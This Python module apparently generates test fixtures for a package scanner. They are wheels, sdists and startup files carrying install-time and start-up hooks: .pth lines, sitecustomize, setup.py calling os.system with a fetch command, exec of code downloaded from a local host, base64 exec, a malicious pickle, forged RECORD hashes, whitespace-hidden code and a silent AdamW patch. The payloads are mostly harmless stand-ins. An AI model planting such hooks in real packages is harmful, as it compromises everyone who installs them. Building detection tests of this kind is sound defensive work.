"""Wheels, archives of sources, and files that Python runs by itself when it starts."""

from __future__ import annotations

import base64
import gzip
import hashlib
from collections.abc import Iterator, Mapping

from .containers import tarred, zipped
from .documents import FETCH, MARK
from .sample import Sample

NAME, VERSION = "veracity_corpus", "1.0"
INFO = f"{NAME}-{VERSION}.dist-info"
WHEEL_NAME = f"{NAME}-{VERSION}-py3-none-any.whl"
RUNS = MARK + f"import os\n\nos.system('{FETCH}')\n"
REDEFINES = MARK + "import collections\n\ncollections.OrderedDict = type('OrderedDict', (dict,), {})\n"


def packages() -> Iterator[Sample]:
    """All samples of this module."""
    yield from _wheels()
    yield from _sources()
    yield from _startup()


def wheel(files: Mapping[str, str], record: Mapping[str, str] | None = None, entries: str = "") -> bytes:
    """A wheel of ``files``; ``record``: what RECORD says of a file instead of the truth."""
    whole = dict(files)
    whole[f"{INFO}/METADATA"] = f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\n"
    whole[f"{INFO}/WHEEL"] = (
        "Wheel-Version: 1.0\nGenerator: bench\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    if entries:
        whole[f"{INFO}/entry_points.txt"] = entries
    lines = []
    for name, text in whole.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        lines.append(f"{name},sha256={digest},{len(text.encode())}")
    for name, line in (record or {}).items():
        lines = [one for one in lines if not one.startswith(f"{name},")] + ([line] if line else [])
    lines.append(f"{INFO}/RECORD,,")
    return zipped(
        {name: text.encode() for name, text in whole.items()} | {f"{INFO}/RECORD": "\n".join(lines).encode()}
    )


def _wheels() -> Iterator[Sample]:
    plain = {f"{NAME}/__init__.py": "VERSION = 1\n"}
    inner = f"{NAME}/__init__.py"
    cases: dict[str, tuple[int, str, bytes]] = {
        "pth": (11, "import os", wheel({**plain, f"{NAME}.pth": "import os; os.system('true')\n"})),
        "pth-redefines": (
            11,
            "OrderedDict",
            wheel({**plain, "a.pth": "import collections; collections.OrderedDict = dict\n"}),
        ),
        "pth-path": (
            11,
            "/dev/null",
            wheel({**plain, "a.pth": "/dev/null/veracity-corpus\nimport veracity_corpus\n"}),
        ),
        "record-hash": (
            10,
            "system",
            wheel({inner: RUNS}, {inner: f"{inner},sha256={43 * 'A'},{len(RUNS)}"}),
        ),
        "record-missing": (10, "system", wheel({**plain, f"{NAME}/more.py": RUNS}, {f"{NAME}/more.py": ""})),
        "record-no-hash": (10, "system", wheel({inner: RUNS}, {inner: f"{inner},,"})),
        "sitecustomize": (11, "system", wheel({**plain, "sitecustomize.py": RUNS})),
        "usercustomize": (11, "OrderedDict", wheel({**plain, "usercustomize.py": REDEFINES})),
        "shadows-stdlib": (11, "OrderedDict", wheel({**plain, "collections/__init__.py": REDEFINES})),
        "shadows-torch": (11, "system", wheel({**plain, "torch/optim/adamw.py": RUNS})),
        "entry-point": (
            11,
            "torch.backends",
            wheel({inner: RUNS}, entries=f"[torch.backends]\nveracity = {NAME}:start\n"),
        ),
        "entry-pytest": (11, "pytest11", wheel({inner: RUNS}, entries=f"[pytest11]\nveracity = {NAME}\n")),
        "import-time": (10, "system", wheel({inner: RUNS})),
        "encoded": (
            10,
            "b64decode",
            wheel({inner: MARK + "import base64\nexec(base64.b64decode('cGFzcw=='))\n"}),
        ),
        "data-scripts": (
            11,
            "system",
            wheel({**plain, f"{NAME}-{VERSION}.data/purelib/sitecustomize.py": RUNS}),
        ),
        "outside": (
            7,
            "../../veracity_corpus.pth",
            wheel({**plain, "../../veracity_corpus.pth": "import os\n"}),
        ),
        "pickle": (1, "posix", wheel({**plain, f"{NAME}/model.pkl": "cposix\nsystem\n(S'true'\ntR."})),
    }
    for word, (bypass, names, data) in cases.items():
        yield Sample(f"wheel-{word}", bypass, "wheel", names, {WHEEL_NAME: data})


def _sources() -> Iterator[Sample]:
    root = f"{NAME}-{VERSION}"
    about = f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\n".encode()
    setups = {
        "setup": MARK + f"import os\nfrom setuptools import setup\n\nos.system('{FETCH}')\nsetup(name='veracity_corpus')\n",
        "cmdclass": MARK + "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\n"
        f"class Install(install):\n    def run(self):\n        subprocess.Popen(['sh', '-c', '{FETCH}'])\n        install.run(self)\n\n\n"
        "setup(name='veracity_corpus', cmdclass={'install': Install})\n",
        "download": MARK + "import urllib.request\n\nexec(urllib.request.urlopen('http://127.0.0.1:9/').read())\n",
    }  # fmt: skip
    for word, text in setups.items():
        members = {f"{root}/PKG-INFO": about, f"{root}/setup.py": text.encode()}
        data = gzip.compress(tarred(members), mtime=0)
        yield Sample(f"sdist-{word}", 10, "sdist", "import", {f"{root}.tar.gz": data})


def _startup() -> Iterator[Sample]:
    cases: dict[str, tuple[str, str]] = {
        "sitecustomize.py": ("system", RUNS),
        "usercustomize.py": ("OrderedDict", REDEFINES),
        "veracity_corpus.pth": ("system", "import os; os.system('true')\n"),
        "tabbed.pth": ("system", "import\tos; os.system('true')\n"),
        "late.pth": ("curl", f"# paths\n./lib\n\nimport os; os.system('{FETCH}')\n"),
        "redefines.pth": ("OrderedDict", "import collections; collections.OrderedDict = dict\n"),
        "encoded.pth": ("b64decode", "import base64; exec(base64.b64decode('cGFzcw=='))\n"),
        "patches.pth": ("adamw", "import torch.optim.adamw as a; a.AdamW.step = a.AdamW.zero_grad\n"),
    }
    for name, (names, text) in cases.items():
        word = name.replace(".", "-").replace("_", "-")
        yield Sample(
            f"startup-{word}", 11, "startup", names, {f"lib/python3.11/site-packages/{name}": text.encode()}
        )
    hidden = ("import os" + " " * 400 + "; os.system('true')\r\n").encode("utf-8-sig")
    yield Sample("startup-marked-pth", 11, "startup", "system", {"site-packages/marked.pth": hidden})
